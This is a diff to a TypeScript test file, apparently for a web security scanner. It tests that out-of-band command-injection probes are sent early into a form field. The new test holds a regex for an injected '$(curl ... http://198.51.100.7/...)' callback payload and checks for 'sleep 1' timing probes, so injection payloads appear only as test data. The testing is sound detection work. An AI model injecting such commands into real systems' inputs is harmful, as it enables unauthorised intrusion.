@@ -2,6 +2,7 @@
 import type { IncomingMessage } from 'node:http'
 import { runInNewContext } from 'node:vm'
 import { afterEach, expect, it } from 'vitest'
+import type { OobHit, OutOfBand } from '../../../egress/oob/out-of-band.ts'
 import { closeProbed, crawlOf, html, pointOf, probed } from '../insertion-points/testing/probing.ts'
 import { probePoint } from './collect.ts'
 import { createOutside } from './probes/outside.ts'
@@ -23,11 +24,16 @@ const FILES: Readonly<Record<string, string>> = {
 }
 
 /** A form that may write is posted; what is found, and how often it was sent. */
-const posted = async (fields: Readonly<Record<string, string>>, answer: (body: URLSearchParams) => string) => {
+const posted = async (
+  fields: Readonly<Record<string, string>>,
+  answer: (body: URLSearchParams) => string,
+  listening?: OutOfBand,
+) => {
   const crawl = crawlOf(Object.entries(fields).map(([name, value]) => pointOf('a', 'form', name, value)))
   const sent = Object.entries(fields).map(([name, value]) => ({ name, value, type: 'text' }))
   const form = { method: 'POST', encoding: 'urlencoded', fields: sent, bound: 40, source: 'form' } as const
   const known = { ...crawl, requests: crawl.requests.map((one) => ({ ...one, ...form })) }
+  const outside = createOutside(listening, 50)
   let posts = 0
   const { hits } = await probed(
     async (request, response) => {
@@ -39,11 +45,13 @@ const posted = async (fields: Readonly<Record<string, string>>, answer: (body: U
     null,
     {
       probe: (probe, found) =>
-        probePoint(probe, ({ kind }) => found(kind), createOutside(undefined), {
+        probePoint(probe, ({ kind }) => found(kind), outside, {
           site: siteFilesOf(known),
           served: async () => ({ status: 404, text: '' }),
           tests: true,
         }),
+      afterwards: async (at) =>
+        (await outside.settle(at, () => undefined)).map(({ point, hit }) => ({ point, hit: hit.kind })),
     },
   )
   return { hits, posts }
@@ -83,5 +91,35 @@ it('a value that is an expression is asked whether it is evaluated, though the p
     }
   })
   expect(hits).toEqual(['form lines'])
+  expect(posts).toBeLessThanOrEqual(40)
+})
+
+it('where the page shows nothing, commands that call or wait are among the first that its fields are asked', async () => {
+  const calls = new Map<string, OobHit>()
+  let issued = 0
+  const listening: OutOfBand = {
+    issue: () => {
+      issued += 1
+      return { token: `t${issued}t`, host: null, url: `http://198.51.100.7/t${issued}t/` }
+    },
+    hits: async (token) => [...calls.values()].filter((one) => one.token === token),
+  }
+  const run = (shell: string): void => {
+    const called = /\$\(curl -m 3 http:\/\/198\.51\.100\.7\/(t\d+t)\/qv\$\(\((\d+)\*(\d+)\)\)/.exec(shell)
+    const [, token = '', a, b] = called ?? []
+    const detail = `GET /qv${Number(a) * Number(b)}`
+    if (called) calls.set(token, { token, protocol: 'http', at: 0, from: '192.0.2.1', detail, agent: '' })
+  }
+  const sent: string[] = []
+  const answer = (body: URLSearchParams): string => {
+    run(body.get('printer') ?? '')
+    sent.push(body.get('printer') ?? '')
+    return 'Queued'
+  }
+  const { hits, posts } = await posted({ tray: 'a', copies: 'b', printer: 'desk' }, answer, listening)
+  expect(hits).toEqual(['form printer'])
+  const at = ['$(curl', 'sleep 1'].map((text) => sent.findIndex((one) => one.includes(text)))
+  expect(Math.min(...at)).toBeGreaterThanOrEqual(0)
+  expect(Math.max(...at)).toBeLessThan(6)
   expect(posts).toBeLessThanOrEqual(40)
 })
